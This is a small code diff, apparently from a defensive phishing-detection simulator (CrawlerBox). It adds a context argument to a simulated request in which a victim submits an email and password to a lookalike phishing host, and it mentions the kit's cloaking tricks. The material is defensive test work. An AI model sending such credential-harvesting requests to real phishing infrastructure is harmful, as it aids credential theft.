@@ -80,7 +80,7 @@ func run() error {
 		ma.Cloaks.Turnstile, ma.Cloaks.ConsoleHijack)
 	// Finally, the part CrawlerBox exists to prevent: a victim who clicks
 	// through and submits credentials.
-	_, err = world.Net.Do(&webnet.Request{
+	_, err = world.Net.Do(context.Background(), &webnet.Request{
 		Method: "POST", Host: "acmetraveltech-sso.buzz", Path: "/session",
 		Body:     "email=employee%40corp.example&password=Correct.Horse.7",
 		Headers:  map[string]string{"User-Agent": "Mozilla/5.0"},
